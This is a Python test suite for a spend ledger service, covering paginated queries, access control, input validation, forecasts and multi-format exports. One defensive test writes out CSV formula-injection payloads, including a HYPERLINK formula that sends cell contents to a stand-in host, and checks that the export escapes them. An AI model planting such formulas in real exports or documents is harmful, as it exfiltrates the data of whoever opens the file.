"""What the ledger answers at the wire."""

# Tables of cases have one case a line.
# ruff: noqa: E501

import csv
import importlib
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from agentmesh.governor.v1 import cost_governor_service_pb2 as pb
from meshkit import identity, page_token
from meshkit.errors import Forbidden, InvalidField, InvalidPageToken
from meshkit.operators import Operators
from meshtest.clock import FakeClock
from services.governor import spend_export
from services.governor.budget import Budget, Place, Scope, ScopeKind
from services.governor.forecast_sql import SqlTaskUses
from services.governor.scripted_spending import ScriptedSpending, charge
from services.governor.spend_service import SpendService
from services.governor.window import WindowKind
from sqlstore.database import Database

pytest_plugins = ["meshtest.fixtures", "services.governor.fixture_ledger"]

_PARENT = "tenants/acme"
_ARROW: Any = importlib.import_module("pyarrow")
_PARQUET: Any = importlib.import_module("pyarrow.parquet")
_FORMATS = [pb.SPEND_FORMAT_CSV, pb.SPEND_FORMAT_PARQUET, pb.SPEND_FORMAT_ARROW]


class _Budgets:
    """A daily budget in Berlin, and none for the month."""

    def get(self, place: Place) -> Budget | None:
        scope, window = place
        if (scope, window) != (Scope(ScopeKind.TENANT, "acme"), WindowKind.DAY):
            return None
        return Budget(scope, window, 1_000, "Europe/Berlin")


@pytest.fixture
def service(database: Database, clock: FakeClock) -> SpendService:
    """Serves acme; the boss is an operator."""
    operators = Operators(["user:boss"])
    return SpendService(database, SqlTaskUses(database), _Budgets(), operators, clock)


def _as(caller: str = "user:someone") -> Any:
    return identity.use(identity.Identity("acme", caller))


async def test_spending_comes_in_pages_that_stay_as_they_were(
    database: Database, service: SpendService, clock: FakeClock
) -> None:
    """The token holds the end and the last charge: what comes later is in no page."""
    spending, past = ScriptedSpending(database), clock.now() - timedelta(hours=1)
    await spending.charge(
        *(charge(f"k{each}", 10, past, model=f"m{each}", task=f"t{each}") for each in range(3))
    )
    await spending.end("t0", succeeded=True)
    request = pb.QuerySpendRequest(parent=_PARENT, page_size=2)
    request.group_by.append(pb.SPEND_DIMENSION_MODEL)
    with _as():
        first = await service.query(request)
        await spending.charge(charge("new", 10, past, model="m2"))
        await clock.advance(60)
        request.page_token = first.next_page_token
        second = await service.query(request)
        assert [list(each.group) for each in (*first.rows, *second.rows)] == [
            ["m0"],
            ["m1"],
            ["m2"],
        ]
        assert second.next_page_token == ""
        assert second.rows[0].usage.cost_micros == 10
        request.group_by.append(pb.SPEND_DIMENSION_DAY)
        with pytest.raises(InvalidPageToken):
            await service.query(request)
    done, other = first.rows
    assert (done.tasks, done.succeeded_tasks) == (1, 1)
    assert (done.cost_micros_per_task, done.cost_micros_per_succeeded_task) == (10.0, 10.0)
    assert (other.tasks, other.succeeded_tasks) == (1, 0)
    assert not other.HasField("cost_micros_per_succeeded_task")


async def test_a_page_token_that_was_tampered_with_is_refused(service: SpendService) -> None:
    """Also where it says a time that no calendar has."""
    request = pb.QuerySpendRequest(parent=_PARENT)
    query = page_token.query_of(request)
    with _as():
        for position in ("1/253402300800000000/0", "1/999999999999999999/0", "1/-1/0"):
            request.page_token = page_token.encode(query, position)
            with pytest.raises(InvalidPageToken):
                await service.query(request)
        of_profiles = pb.ListTaskProfilesRequest(parent=_PARENT)
        of_profiles.page_token = page_token.encode(page_token.query_of(of_profiles), "1/\x00")
        with pytest.raises(InvalidPageToken):
            await service.profiles(of_profiles)


async def test_task_types_that_no_call_can_have_are_refused(service: SpendService) -> None:
    """Databases would refuse them in words of their own."""
    with _as():
        with pytest.raises(InvalidField) as profile:
            await service.profile(pb.GetTaskProfileRequest(parent=_PARENT, task_type="a\x00"))
        with pytest.raises(InvalidField) as capacity:
            await service.capacity(
                pb.ForecastCapacityRequest(parent=_PARENT, tasks_per_minute={"a\x00": 1})
            )
    assert [each.value.violations[0].field for each in (profile, capacity)] == [
        "task_type",
        "tasks_per_minute[a\x00]",
    ]


async def test_all_tenants_are_for_operators(database: Database, service: SpendService) -> None:
    """Nobody else sees what others spend."""
    everything = pb.QuerySpendRequest(parent="tenants/-", group_by=[pb.SPEND_DIMENSION_TENANT])
    await ScriptedSpending(database).charge(
        charge("a", 1, datetime(2020, 1, 1, tzinfo=UTC)),
        charge("a", 2, datetime(2020, 1, 1, tzinfo=UTC), tenant="else"),
    )
    with _as("user:boss"):
        answer = await service.query(everything)
    assert [(*each.group, each.usage.cost_micros) for each in answer.rows] == [
        ("acme", 1),
        ("else", 2),
    ]
    with _as():
        with pytest.raises(Forbidden) as caught:
            await service.query(everything)
        assert (
            str(caught.value)
            == "user:someone is no operator, and only operators may see the spending of all tenants."
        )
        with pytest.raises(Forbidden):
            await service.query(pb.QuerySpendRequest(parent="tenants/else"))
        with pytest.raises(Forbidden):
            await anext(service.export(pb.ExportSpendRequest(parent="tenants/-")))


@pytest.mark.parametrize(
    ("fields", "field", "description"),
    [
        ({"group_by": [0]}, "group_by[0]", "must be a known dimension, not 0"),
        ({"group_by": [3, 99]}, "group_by[1]", "must be a known dimension, not 99"),
        ({"group_by": [3, 5, 3]}, "group_by[2]", "must not be SPEND_DIMENSION_MODEL again"),
        ({"page_size": -1}, "page_size", "must not be negative"),
        (
            {"start_time": {"seconds": -1}},
            "start_time",
            "must be a time from 1970-01-01T00:00:00Z on",
        ),
        (
            {"end_time": {"seconds": 1 << 60}},
            "end_time",
            "must be a time from 1970-01-01T00:00:00Z on",
        ),
        (
            {"start_time": {"seconds": 9}, "end_time": {"seconds": 8}},
            "end_time",
            "must not be before `start_time`",
        ),
    ],
)
async def test_a_wrong_question_is_refused(
    service: SpendService, fields: dict[str, Any], field: str, description: str
) -> None:
    """With the field and what it must be."""
    with _as(), pytest.raises(InvalidField) as caught:
        await service.query(pb.QuerySpendRequest(parent=_PARENT, **fields))
    assert [(each.field, each.description) for each in caught.value.violations] == [
        (field, description)
    ]


async def test_a_projection_is_of_the_budgets_day(
    database: Database, service: SpendService, clock: FakeClock
) -> None:
    """In its time zone and with its limit; a month without a budget has none."""
    await ScriptedSpending(database).charge(charge("a", 700, clock.now()))
    with _as():
        answer = await service.project(pb.ProjectSpendRequest(parent=_PARENT))
    assert (answer.day.spent_micros, answer.day.limit_micros) == (700, 1_000)
    assert answer.day.resets_at.ToDatetime().hour in (22, 23)
    assert answer.day.projected_micros >= 700
    assert "evenly" in answer.day.method
    assert (answer.month.spent_micros, answer.month.limit_micros) == (700, 0)
    assert not answer.month.HasField("limit_reached_at")


async def _exported(service: SpendService, written_as: Any, **fields: Any) -> bytes:
    request = pb.ExportSpendRequest(parent=_PARENT, format=written_as, **fields)
    return b"".join([each.data async for each in service.export(request)])


@pytest.mark.parametrize("written_as", _FORMATS)
async def test_an_export_has_every_charge_once(
    database: Database, service: SpendService, written_as: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In order of time, in parts of bounded size, with what is needed to add it up."""
    monkeypatch.setattr(spend_export, "_BATCH", 7)
    monkeypatch.setattr(spend_export, "PART_BYTES", 512)
    start = datetime(2020, 1, 1, tzinfo=UTC)
    charges = [
        charge(
            f"k{each}",
            each,
            start + timedelta(minutes=each),
            model='a,"b"\n',
            task=f"t{each % 3}",
            tier=2,
        )
        for each in range(30)
    ]
    spending = ScriptedSpending(database)
    await spending.charge(*reversed(charges))
    await spending.charge(charges[3], charge("x", 1, start, tenant="else"))
    with _as():
        request = pb.ExportSpendRequest(parent=_PARENT, format=written_as)
        parts = [each.data async for each in service.export(request)]
    assert all(1 <= len(each) <= 512 for each in parts)
    content = b"".join(parts)
    if written_as == pb.SPEND_FORMAT_CSV:
        rows: list[dict[str, Any]] = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
        assert rows[0]["call_time"] == "2020-01-01T00:00:00+00:00"
    elif written_as == pb.SPEND_FORMAT_PARQUET:
        rows = _PARQUET.read_table(io.BytesIO(content)).to_pylist()
        assert rows[0]["call_time"] == start
    else:
        rows = _ARROW.ipc.open_stream(content).read_all().to_pylist()
        assert rows[0]["settle_time"] == start
    assert [each["key"] for each in rows] == [f"k{each}" for each in range(30)]
    assert [int(each["cost_micros"]) for each in rows] == list(range(30))
    assert {(each["tier"], each["model"], each["tenant"]) for each in rows} == {
        ("balanced", 'a,"b"\n', "acme")
    }
    assert rows[4]["task"] == "t1"


@pytest.mark.parametrize(
    ("said", "written"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"1")', '\'=HYPERLINK("http://x.example/?"&A1,"1")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("a=1", "a=1"),
        ("a;b-1;", "a;b-1;"),
        ("a;=1+1", "a;'=1+1"),
        ("=1;;-1", "'=1;;'-1"),
        ('a;"=1+1"', 'a;\'"=1+1"'),
    ],
)
async def test_no_spreadsheet_reckons_with_what_an_export_says(
    database: Database, service: SpendService, said: str, written: str
) -> None:
    """Whoever calls a model says for what; whoever opens the file may be an operator."""
    start = datetime(2020, 1, 1, tzinfo=UTC)
    await ScriptedSpending(database).charge(charge("k", 7, start, task_type=said, session=said))
    with _as():
        content = await _exported(service, pb.SPEND_FORMAT_CSV, start_time=start)
        whole = await _exported(service, pb.SPEND_FORMAT_PARQUET, start_time=start)
    [row] = csv.DictReader(io.StringIO(content.decode(), newline=""))
    assert (row["task_type"], row["session"], row["cost_micros"]) == (written, written, "7")
    [exact] = _PARQUET.read_table(io.BytesIO(whole)).to_pylist()
    assert exact["task_type"] == said


@pytest.mark.parametrize("written_as", _FORMATS)
async def test_an_export_of_nothing_is_a_whole_file(service: SpendService, written_as: Any) -> None:
    """With its columns and without a row."""
    with _as():
        content = await _exported(service, written_as, start_time=datetime(2020, 1, 1, tzinfo=UTC))
    if written_as == pb.SPEND_FORMAT_CSV:
        assert content.decode().splitlines() == [
            "tenant,key,task,task_type,agent,session,model,tier,price_version,call_time,settle_time,input_tokens,output_tokens,cached_input_tokens,model_calls,tool_calls,cache_hits,cost_micros"
        ]
    elif written_as == pb.SPEND_FORMAT_PARQUET:
        assert _PARQUET.read_table(io.BytesIO(content)).num_rows == 0
    else:
        assert _ARROW.ipc.open_stream(content).read_all().num_rows == 0


async def test_profiles_are_told_and_come_in_pages(
    database: Database, service: SpendService
) -> None:
    """What a task type used by tier; of all task types, in order."""
    await ScriptedSpending(database).charge(
        charge("a", 10, task_type="chat", tier=1),
        charge("b", 30, task_type="chat", tier=3),
        charge("c", 50, task_type="a/b", tier=1),
    )
    with _as():
        one = await service.profile(pb.GetTaskProfileRequest(parent=_PARENT, task_type="chat"))
        assert [
            (each.tier, each.samples, each.mean_cost_micros, each.p95_cost_micros)
            for each in one.profiles
        ] == [(1, 1, 10.0, 10.0), (3, 1, 30.0, 30.0)]
        request, found = (
            pb.ListTaskProfilesRequest(parent=_PARENT, page_size=1),
            list[tuple[str, int]](),
        )
        while True:
            page = await service.profiles(request)
            found += ((each.task_type, each.tier) for each in page.profiles)
            if not page.next_page_token:
                break
            request.page_token = page.next_page_token
        assert found == [("a/b", 1), ("chat", 1), ("chat", 3)]
        with pytest.raises(InvalidField):
            await service.profile(pb.GetTaskProfileRequest(parent=_PARENT))


async def test_a_load_is_forecast_from_what_tasks_used(
    database: Database, service: SpendService
) -> None:
    """Two calls and 30 micro-dollars a task, at one task a minute."""
    await ScriptedSpending(database).charge(
        charge("a", 10, task_type="chat", tier=1, task="t1"),
        charge("b", 20, task_type="chat", tier=3, task="t1"),
        charge("c", 30, task_type="chat", tier=1, task="t2"),
        charge("d", 1_000, task_type="chat", tier=1),
    )
    with _as():
        answer = await service.capacity(
            pb.ForecastCapacityRequest(parent=_PARENT, tasks_per_minute={"chat": 2.0})
        )
        assert answer.cost_micros_per_hour == 2 * 60 * 30
        assert dict(answer.model_calls_per_minute) == {"fast": 2.0, "powerful": 1.0}
        assert (
            answer.method
            == "The mean of the latest tasks (2 of chat) times the load; prices as they were charged."
        )
        for load, field in (
            ({"chat": -1.0}, "[chat]"),
            ({"chat": float("nan")}, "[chat]"),
            ({"none": 1.0}, "[none]"),
            ({}, ""),
        ):
            with pytest.raises(InvalidField) as caught:
                await service.capacity(
                    pb.ForecastCapacityRequest(parent=_PARENT, tasks_per_minute=load)
                )
            assert caught.value.violations[0].field == f"tasks_per_minute{field}"


async def test_a_load_that_costs_more_than_there_is_is_refused(
    database: Database, service: SpendService
) -> None:
    """Each figure of it may be right, and their product one that no answer holds."""
    await ScriptedSpending(database).charge(
        charge("a", 20_000_000_000, task_type="chat", task="t1"),
    )
    with _as(), pytest.raises(InvalidField) as caught:
        await service.capacity(
            pb.ForecastCapacityRequest(parent=_PARENT, tasks_per_minute={"chat": 1e9})
        )
    assert [(each.field, each.description) for each in caught.value.violations] == [
        ("tasks_per_minute", "must not come to more than a trillion dollars an hour")
    ]
